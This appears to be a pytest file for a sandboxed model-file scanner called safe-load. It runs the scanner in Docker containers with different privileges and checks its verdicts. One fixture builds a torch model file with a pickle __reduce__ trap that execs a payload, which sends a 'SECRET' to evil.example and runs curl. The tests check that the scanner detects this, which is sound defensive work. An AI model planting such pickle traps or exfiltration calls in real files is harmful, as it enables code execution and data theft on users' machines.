"""In an engine's default container, as nobody and without a capability, the cell alone stands.

The container shows this machine's own system and this checkout, read-only; nothing is built for it.
"""

from __future__ import annotations

import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
import uuid
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
import rooms

if TYPE_CHECKING:
    from collections.abc import Iterator

_IMAGE = f"safe-load-tests-empty:{uuid.uuid4().hex}"  # other runs have their own
_FOLDERS = ("tmp", "proc", "sys", "dev", "etc")


@pytest.fixture(scope="module")
def image() -> Iterator[str]:
    """An image with nothing in it but folders to mount on."""
    if shutil.which("docker") is None or _python() is None:
        pytest.skip("no docker command, or no Python outside of root's home")
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w") as archive:
        for name in _FOLDERS:
            entry = tarfile.TarInfo(name)
            entry.type, entry.mode = tarfile.DIRTYPE, 0o1777 if name == "tmp" else 0o755
            archive.addfile(entry)
    made = subprocess.run(
        ["docker", "import", "-", _IMAGE], input=data.getvalue(), capture_output=True, check=False
    )
    if made.returncode:
        pytest.skip(f"no container engine: {made.stderr.decode(errors='replace')[:200]}")
    yield _IMAGE
    subprocess.run(["docker", "image", "rm", "--force", _IMAGE], capture_output=True, check=False)


def command(image: str, options: list[str], model: Path, *arguments: str) -> list[str]:
    """How to run safe-load in a container of that image, with the engine's defaults and `options`."""
    python = str(Path(str(_python())).resolve())
    shown = {*_system(), *(str(Path(path).resolve()) for path in rooms._paths())}
    shown |= {str(Path(rooms.__file__).resolve().parents[2]), str(model)}
    binds = [word for path in sorted(shown) for word in ("--volume", f"{path}:{path}:ro")]
    run = ["docker", "run", "--rm", "--network", "none", *binds, *options, image]
    return [*run, python, "-I", "-B", "-c", rooms.MAIN, ":".join(rooms._paths()), *arguments]


def _python() -> str | None:
    """An interpreter whose place a container shows: root's own may lie in root's home."""
    return rooms.python_for_all() if os.geteuid() == 0 else sys.executable


def _system() -> list[str]:
    found = ["/usr", "/etc/ld.so.cache", "/lib", "/lib64", "/bin"]
    return [path for path in found if Path(path).exists()]


#: Nobody; or who runs the tests, whose files nobody else may read.
_USER = "65534:65534" if os.geteuid() == 0 else f"{os.geteuid()}:{os.getegid()}"
NOBODY = ["--user", _USER, "--cap-drop", "ALL"]


@pytest.fixture
def model(shared_path: Path) -> Path:
    """A model that runs a program and calls home."""
    import torch

    class Trap:
        def __reduce__(self) -> Any:
            return (exec, (_PAYLOAD,))

    path = shared_path / "model.bin"
    torch.save({"w": torch.zeros(2), "trap": Trap()}, path)
    path.chmod(0o644)
    return path


_PAYLOAD = """
import os, urllib.request
urllib.request.urlopen("http://evil.example/exfil?k=SECRET")
os.system("curl evil.example")
"""


@pytest.mark.parametrize("options", [NOBODY, []], ids=["nobody", "default"])
def test_the_cell_alone_stands_in_a_default_container_and_hears_everything(
    image: str, options: list[str], model: Path
) -> None:
    done = subprocess.run(
        command(image, options, model, "scan", str(model), "--format", "json"),
        capture_output=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 1, done.stderr[-2000:]
    report = json.loads(done.stdout)
    report = report[0] if isinstance(report, list) else report
    assert (report["sandbox"]["tier"], report["verdict"]) == ("B", "malicious")
    assert report["recording"]["complete"]
    assert any(each["domain"] == "evil.example" for each in report["egress"])
    assert any("GET /exfil?k=SECRET" in each["payload_preview"] for each in report["egress"])
    assert any(process["argv"][-1] == "curl evil.example" for process in report["processes"])


def test_strict_a_opens_nothing_in_a_default_container(image: str, model: Path) -> None:
    arguments = ("scan", str(model), "--format", "json", "--profile", "strict-a")
    done = subprocess.run(
        command(image, NOBODY, model, *arguments), capture_output=True, timeout=120, check=False
    )
    assert done.returncode == 4, done.stderr[-2000:]
    assert b"namespaces" in done.stdout


ADVISED = ["seccomp=unconfined", "apparmor=unconfined", "systempaths=unconfined"]


def test_the_doctor_says_what_a_container_lacks_and_how_to_get_it(image: str, model: Path) -> None:
    done = subprocess.run(
        command(image, NOBODY, model, "doctor", "--format", "json"),
        capture_output=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    found = json.loads(done.stdout)
    assert found["tier"] == "B"
    stands = {(room["backend"], room["tier"]): room["stands"] for room in found["rooms"]}
    assert (stands["native", "A"], stands["native", "B"]) == (False, True)
    assert all(wall["state"] != "missing" for wall in found["walls"])
    (hint,) = (each for each in found["advice"] if each["room"] == "native, tier A")
    assert hint["command"] == " ".join(f"--security-opt {each}" for each in ADVISED)


def test_what_the_doctor_advises_gives_a_container_tier_a(image: str, model: Path) -> None:
    options = [*NOBODY, *(word for each in ADVISED for word in ("--security-opt", each))]
    done = subprocess.run(
        command(image, options, model, "doctor", "--format", "json"),
        capture_output=True,
        timeout=120,
        check=False,
    )
    assert json.loads(done.stdout)["tier"] == "A", done.stdout[-2000:]


def test_without_a_folder_to_write_to_the_room_is_refused_in_one_sentence(
    image: str, model: Path
) -> None:
    done = subprocess.run(
        command(image, [*NOBODY, "--read-only"], model, "scan", str(model)),
        capture_output=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 4, done.stderr[-2000:]
    assert b"TMPDIR" in b" ".join(done.stdout.split())
